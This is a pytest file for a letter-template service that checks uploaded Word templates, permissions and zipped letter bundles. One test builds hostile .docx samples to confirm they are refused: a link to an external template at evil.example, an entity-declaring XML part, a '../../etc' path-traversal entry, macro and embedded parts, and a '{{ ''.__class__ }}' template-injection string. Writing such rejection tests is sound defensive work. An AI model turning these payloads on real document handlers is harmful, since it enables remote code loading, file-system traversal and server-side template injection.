"""Word templates handed in, and letters of a branch in one go."""

import zipfile
from datetime import timedelta
from io import BytesIO

import pytest
from docx import Document

from luopan.org.access import Denied, Unknown
from luopan.papers.own_docx import own_template
from luopan.targets.models import LetterTemplate
from luopan.targets.queries import commitments as queries
from luopan.targets.queries import letter_files
from luopan.targets.services import letters
from luopan.trail import jobs
from luopan.trail.models import Job
from luopan.trail.refusal import Refused
from tests.papers.test_letters import text_of
from tests.papers.test_templates import template
from tests.targets.test_signing import committed, settled, sign  # noqa: F401

OWN = template("我公司责任书", "{{ number }} {{ party_b_person }} {{ amount }}")


@pytest.fixture(autouse=True)
def files(settings, tmp_path):
    settings.FILES = tmp_path


def work(play):
    jobs.work(once=True, clock=lambda: play.world.at + timedelta(minutes=2))


def take(play, content, who=None, name="ours.docx"):
    by = {"actor": who or play.world.olga, "at": play.world.at}
    return letters.take_template(**by, name=name, content=content, language="zh")


def refusal(play, content):
    with pytest.raises(Refused) as caught:
        take(play, content)
    return str(caught.value)


def repacked(content, *, without=(), **more):
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(made, "w") as new:
        for part in old.namelist():
            if part not in without:
                new.writestr(part, old.read(part))
        for name, text in more.items():
            new.writestr(name, text)
    return made.getvalue()


def test_a_template_is_used_from_then_on_and_signed_letters_stay(committed):  # noqa: F811
    play, world = committed, committed.world
    first = sign(play, world.bob, "north-1-a")
    taken = take(play, OWN)
    assert taken.fields == ["number", "party_b_person", "amount"]
    second = sign(play, world.alice, "north")
    assert (first.template, second.template) == (None, taken)
    shown = queries.letter(world.alice, second.number, at=world.at)
    assert [block.text for block in shown.blocks][0] == "我公司责任书"
    assert shown.as_signed and shown.template == "ours.docx"
    own = queries.letter(world.alice, first.number, at=world.at)
    assert own.as_signed and own.template == ""
    word = queries.paper(world.alice, second.number, "docx", on=play.on)
    texts = [p.text for p in Document(BytesIO(word.content)).paragraphs]
    assert texts == ["我公司责任书", "2027-north-1 Alice 216,008"]
    letters.drop_template(actor=world.olga, at=world.at, language="zh")
    assert letter_files.templates_used() == {"zh": None, "en": None}
    assert queries.letter(world.alice, second.number, at=world.at).as_signed
    with pytest.raises(Refused, match="already"):
        letters.drop_template(actor=world.olga, at=world.at, language="zh")


def test_only_who_may_change_the_whole_organisation_hands_in_templates(play):
    for who in (play.world.alice, play.world.bob, play.world.fin):
        with pytest.raises((Denied, Unknown)):
            take(play, OWN, who)
    assert not LetterTemplate.objects.exists()


def test_hostile_files_are_refused_in_a_sentence(play):
    own = own_template("zh", 1)
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="r" Type="http://x/attachedTemplate" '
        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    bomb = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    for content, words in [
        (b"", "is not a Word document (.docx) without a"),
        (b"\xd0\xcf\x11\xe0" + b"0" * 900, "is not a Word document (.docx) without a"),
        (b"%PDF-1.7", "is not a Word document (.docx) without a"),
        (b"PK\x03\x04" + b"x" * 50, "Open it in Word, save it as .docx and try again"),
        (
            repacked(own, without=["word/document.xml"]),
            "is not a Word document (.docx) without a",
        ),
        (repacked(own, **{"word/vbaProject.bin": b"x"}), "macros or embedded"),
        (repacked(own, **{"word/embeddings/o.bin": b"x"}), "macros or embedded"),
        (repacked(own, **{"word/_rels/settings.xml.rels": link}), "from elsewhere"),
        (
            repacked(own, **{"word/extra.xml": bomb}),
            "Open it in Word, save it as .docx and try again",
        ),
        (
            repacked(own, **{"../../etc/x.xml": "<a/>"}),
            "Open it in Word, save it as .docx and try again",
        ),
        (own + b"0" * (5 << 20), "larger than 4 MB"),
        (template("{{ salary }} {{ number }}"), "{{ salary }}"),
        (template("{{ ''.__class__ }}"), "more than merge fields"),
        (template("{% if"), "contains an invalid merge field"),
    ]:
        assert words in refusal(play, content), words
    with pytest.raises(Refused, match="Letters are available in Chinese and English"):
        letters.take_template(
            actor=play.world.olga,
            at=play.world.at,
            name="x",
            content=OWN,
            language="fr",
        )


@pytest.mark.parametrize("kind", ["pdf", "docx"])
def test_letters_of_a_branch_as_one_zip(committed, kind):  # noqa: F811
    play, world = committed, committed.world
    sign(play, world.bob, "north-1-a")
    sign(play, world.alice, "north")
    sign(play, world.charlie, "south")
    by = play.by(world.alice)
    number = letters.ask_for_letters(**by, unit="north", kind=kind)
    with pytest.raises(Unknown):
        letter_files.bundle_seen(world.alice, number, on=play.on)
    work(play)
    assert Job.objects.get(pk=number).state == "done"
    made = letter_files.bundle_seen(world.alice, number, on=play.on)
    assert made.name == f"North 2027 {kind}.zip"
    with zipfile.ZipFile(made.file) as archive:
        names = archive.namelist()
        assert names == [
            f"North 2027-north-1.{kind}",
            f"Seat A 2027-north-1-a-1.{kind}",
        ]
        if kind == "pdf":
            assert "120,007" in text_of(archive.read(names[1]))
    for who in (world.dora, world.bob, world.charlie):
        with pytest.raises(Unknown):
            letter_files.bundle_seen(who, number, on=play.on)


def test_of_what_is_not_ones_own_no_letters_are_printed(committed):  # noqa: F811
    play, world = committed, committed.world
    by = play.by(world.charlie)
    with pytest.raises(Unknown):
        letters.ask_for_letters(**by, unit="north", kind="pdf")
    with pytest.raises(Refused, match="Nobody has signed"):
        letters.ask_for_letters(**by, unit="south", kind="pdf")
    sign(play, world.charlie, "south")
    with pytest.raises(Refused, match="pdf or docx"):
        letters.ask_for_letters(**by, unit="south", kind="exe")


def test_old_zips_are_taken_away(committed):  # noqa: F811
    import os

    play, world = committed, committed.world
    sign(play, world.charlie, "south")
    first = letters.ask_for_letters(**play.by(world.charlie), unit="south", kind="docx")
    work(play)
    file = letter_files.bundle_seen(world.charlie, first, on=play.on).file
    old = (world.at - timedelta(days=8)).timestamp()
    os.utime(file, (old, old))
    later = {"actor": world.charlie, "at": world.at + timedelta(minutes=1)}
    letters.ask_for_letters(**later, version=play.version, unit="south", kind="docx")
    work(play)
    with pytest.raises(Unknown):
        letter_files.bundle_seen(world.charlie, first, on=play.on)
